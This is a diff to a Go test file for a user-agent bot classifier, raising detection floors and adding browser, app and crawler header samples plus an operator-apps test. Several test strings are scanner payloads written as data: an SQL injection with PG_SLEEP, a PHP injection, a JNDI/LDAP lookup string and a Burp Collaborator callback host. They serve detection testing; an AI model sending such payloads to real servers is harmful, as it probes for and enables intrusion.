@@ -44,9 +44,9 @@ func readList(t testing.TB, name string) []labelled {
 
 // listResult is how the classifier and mileusna/useragent judge one list.
 type listResult struct {
-	name           string
-	n, bots, mBots int
-	examples       []string
+	name                  string
+	n, bots, mBots, tools int // tools: HTTP tools judged no bot, as http_tools off says
+	examples              []string
 }
 
 // judgeList classifies every header of a list with c.
@@ -59,6 +59,8 @@ func judgeList(t testing.TB, c *Classifier, name string) listResult {
 			if len(r.examples) < 400 {
 				r.examples = append(r.examples, l.UA)
 			}
+		} else if c.tokens.match([]byte(strings.ToLower(l.UA)))&kindTool != 0 {
+			r.tools++
 		}
 		if useragent.Parse(l.UA).Bot {
 			r.mBots++
@@ -76,15 +78,24 @@ var listedBots = map[string]string{
 	"Mozilla/5.0 (compatible; Yahoo! Slurp)": "isbot: an insignificant bot (Yahoo's crawler)",
 	"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Amzn-User/0.1) Chrome/119.0.6045.214 Safari/537.36":                                                                                                   "Amazon's user-triggered fetcher, a token of the built-in operator registry: a claim, judged as a bot unless verified (isbot files it as a browser)",
 	"fuboTV/4.75.0 (Linux;Android 9; AFTDCT31 Build/PS7664.3772N) FuboPlayer/v1.34.0":                                                                                                                                     "mileusna/useragent reads it as a bot (a TV app)",
-	"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; i-NavFourF; TuneUp HTML Client Embedded Web Browser from: http://bsalsa.com/; .NET CLR 1.1.4322; .NET CLR 2.0.50727; .NET CLR 3.0.4506.2152; .NET CLR 3.5.30729)": "mileusna/useragent reads it as a bot (an embedded control of 2008)",
+	"Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1; i-NavFourF; TuneUp HTML Client Embedded Web Browser from: http://bsalsa.com/; .NET CLR 1.1.4322; .NET CLR 2.0.50727; .NET CLR 3.0.4506.2152; .NET CLR 3.5.30729)": "mileusna/useragent reads it as a bot (an embedded control of 2008); it also gives a URL",
+	"pinterest/0.": "isbot: an insignificant bot",
+	// isbot's "glitches and misidentified browsers": headers that some bot
+	// lists hold and isbot does not call bots. These four are scanners'
+	// and a crawler's, whatever a list of browsers files them under.
+	"LWPrCa2l') OR 941=(SELECT 941 FROM PG_SLEEP(15))--":      "isbot's misidentified: an SQL injection payload",
+	"Mozilliqa\"<?=print(9347655345-4954366);?>\"":            "isbot's misidentified: a PHP injection payload",
+	"Mozilla/5.0 (Laravel Reaver .env Presence)":              "isbot's misidentified: a scanner looking for Laravel .env files (no platform named)",
+	"Mozilla/5.0 (compatible; Lucidworks-Anda/2.0/0.10; +; )": "isbot's misidentified: Lucidworks Fusion's web crawler (no platform named)",
 }
 
-// Floors of the share of bots caught, as reached (issue 33 asks for 97 %
-// of isbot's crawlers and 98 % of device-detector's bots; the HTTP tools
-// they hold count when http_tools is on).
+// The share of bots that must be caught (issue 33): 97 % of isbot's
+// crawlers, 98 % of device-detector's bots. HTTP tools count as the
+// default says: with http_tools off, a header that is a tool's and no
+// more is neither caught nor missed.
 const (
-	floorIsbotCrawlers = 0.69
-	floorMatomoBots    = 0.817
+	floorIsbotCrawlers = 0.97
+	floorMatomoBots    = 0.98
 )
 
 // TestThirdPartyLists measures the classifier (the default configuration,
@@ -103,13 +114,19 @@ func TestThirdPartyLists(t *testing.T) {
 	tools, _ := Config{HTTPTools: true}.WithDefaults()
 	ct := New(tools, v, nil)
 	var table strings.Builder
-	table.WriteString("| list | mileusna Bot | robots_guard | robots_guard, http_tools on |\n|---|--:|--:|--:|\n")
+	table.WriteString("| list | mileusna Bot | robots_guard (bots' lists: HTTP tools not counted) | robots_guard, http_tools on |\n|---|--:|--:|--:|\n")
 	share := map[string]float64{}
 	for _, name := range []string{"isbot-browsers.jsonl", "matomo-devices-browser.jsonl", "matomo-devices-mobile_app.jsonl", "isbot-crawlers.jsonl", "matomo-bots.jsonl"} {
 		r, rt := judgeList(t, c, name), judgeList(t, ct, name)
-		share[name] = float64(r.bots) / float64(r.n)
-		fmt.Fprintf(&table, "| %s (%d): judged a bot | %s | %s (%d) | %s (%d) |\n", name, r.n, pct(r.mBots, r.n), pct(r.bots, r.n), r.bots, pct(rt.bots, rt.n), rt.bots)
-		if strings.Contains(name, "browser") || strings.Contains(name, "mobile_app") {
+		people := strings.Contains(name, "browser") || strings.Contains(name, "mobile_app")
+		counted := r.n - r.tools // bots' lists: a tool is neither caught nor missed
+		if people {
+			counted = r.n
+		}
+		share[name] = float64(r.bots) / float64(counted)
+		fmt.Fprintf(&table, "| %s (%d): judged a bot | %s | %s (%d of %d) | %s (%d) |\n", name, r.n, pct(r.mBots, r.n),
+			pct(r.bots, counted), r.bots, counted, pct(rt.bots, rt.n), rt.bots)
+		if people {
 			for _, ua := range r.examples {
 				if _, ok := listedBots[ua]; !ok {
 					t.Errorf("%s: a browser or app judged a bot: %s", name, ua)
@@ -119,7 +136,7 @@ func TestThirdPartyLists(t *testing.T) {
 	}
 	t.Log("\n" + table.String())
 	if share["isbot-crawlers.jsonl"] < floorIsbotCrawlers || share["matomo-bots.jsonl"] < floorMatomoBots {
-		t.Errorf("fewer bots caught than before: isbot %.3f (floor %.3f), device-detector %.3f (floor %.3f)",
+		t.Errorf("too few bots caught: isbot %.3f (at least %.3f), device-detector %.3f (at least %.3f)",
 			share["isbot-crawlers.jsonl"], floorIsbotCrawlers, share["matomo-bots.jsonl"], floorMatomoBots)
 	}
 	if testing.Verbose() {
@@ -147,6 +164,20 @@ func TestPeopleAndCrawlers(t *testing.T) {
 		"Mozilla/5.0 (Linux; Android 16; Pixel 10 Pro XL Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36 MetaIAB Facebook",
 		"Mozilla/5.0 (Linux; Android 8.1.0; XBot Junior) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/87.0.4280.101 Mobile Safari/537.36",
 		"Mozilla/5.0 (Linux; Android 13; Spider 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
+		// apps whose names hold a stem that crawlers use too, and headers
+		// that name a platform in few words
+		"Mozilla/5.0 (Linux; Android 13; 2201116SI Build/TKQ1.221114.001; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 CamScanner/4.5.0.2305051722",
+		"Mozilla/5.0 (Linux; Android 14; I2208 Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/114.0.5735.196 Mobile Safari/537.36 csh-cashify-flutter csh-store-checkout d2c-back-supported",
+		"Mozilla/5.0 (Linux; Android 11; V2164PA Build/RP1A.200720.012; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/83.0.4103.106 Mobile Safari/537.36 AgentWeb/4.1.3  XsBrowser/11.6.4.950",
+		"Mozilla/5.0 (Linux; Android 12; moto g(50) 5G Build/S1RSS32.38-20-9-13; wv) AppleWebKit/537.36 (KHTML,like Gecko) Version/4.0 Chrome/124.0.6367.180 Mobile Safari/537.36",
+		"Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/111.0.0.0 Mobile Safari/537.36 (Ecosia android@111.0.5563.116)",
+		"MozacFetch/49.0.20200702190156",
+		"Microsoft Office/16.0 (Microsoft Outlook Mail 16.0.8008; Pro)",
+		"GOGGalaxyClient/2.0.20.39 (GOG Galaxy) 83b6745cff679691b69876bc7ee33e05e5d90bda (win10 x64)",
+		"HUAWEI-M636/001.00 WAP/OBIGO/Q05A",
+		"QC-2235/1.0.52 UP.Browser/4.1.22b1",
+		"Xiino/1.0.9E [en] (v. 4.1; 153x130; g4)",
+		"Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US) AppleWebKit/527+ (KHTML, like Gecko, Safari/419.3) Arora/0.6",
 	} {
 		if c.IsBot(ua) {
 			t.Errorf("a person judged a bot: %s", ua)
@@ -160,6 +191,26 @@ func TestPeopleAndCrawlers(t *testing.T) {
 		"WGETbot/1.0 (+http://wget.alanreed.org)",
 		"amibot - http://www.amidalla.de - tech@amidalla.com libwww-perl/5.831",
 		"COMODO SSL Checker",
+		// the generic markers, one of each kind
+		"Mozilla/5.0 (compatible; um-CC/1.0; mailto: techinfo@ubermetrics-technologies.com)",
+		"Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/55.0.2883.87 Safari/537.36 root@8f6gtjctw9glvnasfrq438tprig56wty20ghwkf9.burpcollaborator.net",
+		"${jndi:ldap://${hostName}.useragent.example.oast.live}",
+		"Mozilla/5.0 (en-US) AppleWebKit/537.36 (KHTML, like Gecko; Google-Assess) Chrome/34.0.1847.116 Safari/537.36",
+		"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2272.96 Mobile Safari/537.36 (compatible; Google-AMPHTML)",
+		"Anonymous, Mozilla/5.0 (X11; Linux Mint x86_64) AppleWebKit/537.37 (KHTML, like Gecko) Chrome/50.0.2272.105 Safari/537.37 Vivaldi/1.5.201.2",
+		"Mozilla/5.0 (Windows; U; Windows NT 6.0; en-US; rv:1.9.2.28) Gecko/20120306 Firefox/99.0 YottaaMonitor",
+		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36 CybaaAgent",
+		"Mozilla/5.0 (Linux; Android 11; Moto G Power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Mobile Safari/537.36 CloudflareObservatory/1.0",
+		"Mozilla/5.0 (iPhone; CPU iPhone OS 13_1_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/7.0.12(0x17000c2f) NetType/4G Language/zh_CN wechatdevtools qcloudcdn-xinan",
+		// no person's shape
+		"ApacheBench/2.3",
+		"Mozilla/5.0 (compatible; Trance/1.0)",
+		"Hello, world",
+		"Zeus",
+		"Browsershots",
+		// services' fetchers the list adds
+		"DuckDuckGo/5 (com.duckduckgo.mobile.android; android api 33)",
+		"swcd (unknown version) CFNetwork/1128.0.1 Darwin/19.6.0",
 	} {
 		if !c.IsBot(ua) {
 			t.Errorf("a crawler not judged a bot: %s", ua)
@@ -184,5 +235,31 @@ func TestPersonClasses(t *testing.T) {
 	}
 	if _, err := (Config{PersonAgents: "never"}).WithDefaults(); err == nil || !strings.Contains(err.Error(), "person_agents") {
 		t.Errorf("a bad person_agents: %v", err)
+	}
+}
+
+// TestApps: an app the operator names is a person's, whatever the
+// markers and the shape rule say; a known crawler's token still wins.
+func TestApps(t *testing.T) {
+	plain := mustClassifier(t, Config{})
+	c := mustClassifier(t, Config{Apps: []string{" MyShopApp "}})
+	for ua, want := range map[string][2]bool{ // {default, with apps}
+		"MyShopApp/3.1":                              {true, false},
+		"MyShopApp/3.1 (+https://shop.example)":      {true, false},
+		"MyShopApp/3.1 AhrefsBot/7.0":                {true, true},
+		"NotMyShopApp/3.1":                           {true, true},
+		"MyShopApp/3.1 (iPhone; iOS 17.4)":           {false, false},
+		"Mozilla/5.0 (compatible; Trance/1.0)":       {true, true},
+		"myshopapp/3.1 (Linux; Android 14; Pixel 8)": {false, false},
+	} {
+		if got := plain.IsBot(ua); got != want[0] {
+			t.Errorf("default: IsBot(%q) = %v, want %v", ua, got, want[0])
+		}
+		if got := c.IsBot(ua); got != want[1] {
+			t.Errorf("apps MyShopApp: IsBot(%q) = %v, want %v", ua, got, want[1])
+		}
+	}
+	if _, err := (Config{Apps: []string{"x"}}).WithDefaults(); err == nil || !strings.Contains(err.Error(), "apps[0]") {
+		t.Errorf("a one-letter app token: %v", err)
 	}
 }
